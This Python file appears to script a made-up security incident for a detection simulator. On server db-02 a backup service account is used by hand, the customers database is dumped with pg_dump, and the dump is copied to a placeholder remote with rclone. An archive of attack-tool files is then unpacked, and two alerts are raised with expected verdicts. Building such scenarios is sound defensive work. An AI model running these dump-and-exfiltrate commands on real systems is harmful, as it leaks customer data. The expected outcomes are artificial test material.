"""On db-02 the backup account is used by hand, and a toolkit of 130 files is unpacked.

Two alerts: the account's use, named by the account alone, and the unpacking, with 131 pieces of evidence.
"""

from local.incidents.case import Case, Expectation, file_evidence, process_evidence, user_evidence
from local.incidents.programs import program
from local.incidents.stage import Stage, attacker, clock, later
from local.incidents.world import Account, Process, local_account

_INCIDENT = 1044
_TAG = ("backup account",)
_BACKUP = local_account("svc-backup", "db-02", 34)
_TOOLS = ("scan", "relay", "sweep", "spray", "dump", "pivot", "proxy", "probe", "brute", "hook")


def tell(stage: Stage) -> None:
    """Records one administrator's session on the database server; raises two alerts."""
    shell = _log_on(stage)
    _use_backup_account(stage, shell)
    _unpack(stage, shell)


def _log_on(stage: Stage) -> Process:
    record, listener = stage.recorder, stage.estate.resident("db-02", "sshd")
    who: Account = listener.device.users[0]
    session = record.start(
        listener,
        program("linux", "sshd"),
        "sshd: dbadmin [priv]",
        at=clock("05:58:41.1102"),
        is_root=True,
        life=3 * 3_600 * 10**7,
    )
    record.logon(
        session, clock("05:58:42.0931"), "LogonSuccess", who, ip="10.20.9.5", kind="RemoteInteractive"
    )
    return record.start(
        session,
        program("linux", "bash"),
        "-bash",
        at=clock("05:58:42.3810044"),
        account=who,
        life=3 * 3_600 * 10**7,
    )


def _use_backup_account(stage: Stage, shell: Process) -> None:
    record, born = stage.recorder, clock("06:02:11.7204881")
    sudo = record.start(shell, program("linux", "sudo"), "sudo -u svc-backup bash", at=born, life=9 * 10**9)
    bash = record.start(
        sudo,
        program("linux", "bash"),
        "bash",
        at=later(born, 0.0820117),
        account=_BACKUP,
        life=9 * 10**9,
        about=_TAG,
    )
    record.start(bash, program("linux", "ls"), "ls -l /var/backups/pg", at=later(born, 8.4), about=_TAG)
    dump = record.start(
        bash,
        program("linux", "pg_dump"),
        "pg_dump -Fc customers -f /tmp/c.dump",
        at=later(born, 21.9),
        about=_TAG,
    )
    dumped = stage.drop(attacker("c.dump", "/tmp"))  # noqa: S108 - a path in a made-up recording
    record.file(dump, later(born, 24.1), "FileCreated", dumped, about=_TAG)
    copy = record.start(
        bash,
        program("linux", "rclone"),
        "rclone copy /tmp/c.dump remote:drop --quiet",
        at=later(born, 61.3),
        about=_TAG,
    )
    for count in range(5):
        when = later(born, 62.4 + count * 7.9)
        record.network(copy, when, ip="192.0.2.140", url="storage.fabrikam.example", about=_TAG)
    _alert_on_account(stage, bash, born)


def _alert_on_account(stage: Stage, bash: Process, born: int) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious use of a service account",
            description="An account that only runs backups was used interactively.",
            severity="Medium",
            category="DefenseEvasion",
            device=bash.device,
            first=bash.created,
            last=later(born, 24.2),
            created=clock("06:04:40.8810021"),
            evidence=(user_evidence(_BACKUP),),
            expected=Expectation(
                "Account",
                "Unproven",
                "A dump was taken and copied out, which telemetry cannot tell from an operator's errand.",
                anchors=(bash,),
                about=_TAG[0],
            ),
            incident=_INCIDENT,
            techniques=("T1078",),
            source="CustomerTI",
            user=_BACKUP,
        )
    )


def _unpack(stage: Stage, shell: Process) -> None:
    record, born = stage.recorder, clock("06:20:18.0551236")
    tar = record.start(
        shell, program("linux", "tar"), "tar -xzf kit.tgz -C /opt/.kit", at=born, life=2 * 10**8
    )
    files = []
    for count in range(130):
        tool = stage.drop(attacker(f"{_TOOLS[count % 10]}_{count:03}", "/opt/.kit/bin"))
        record.file(tar, later(born, 0.2 + count * 0.0331207), "FileCreated", tool)
        files.append(tool)
    stage.raise_alert(
        Case(
            title="Hacking tools dropped on a server",
            description="An archive with many known attack tools was unpacked.",
            severity="Medium",
            category="SuspiciousActivity",
            device=tar.device,
            first=born,
            last=later(born, 4.6),
            created=clock("06:22:02.2017745"),
            evidence=(process_evidence(tar), *(file_evidence(one) for one in files)),
            expected=Expectation(
                "ExactProcess",
                "Unproven",
                "The tools lie on the disk; none of them was run.",
                anchors=(tar,),
            ),
            incident=_INCIDENT,
            techniques=("T1588.002",),
            status="InProgress",
            comments=(("soc@contoso.example", "asked the database team"),),
        )
    )
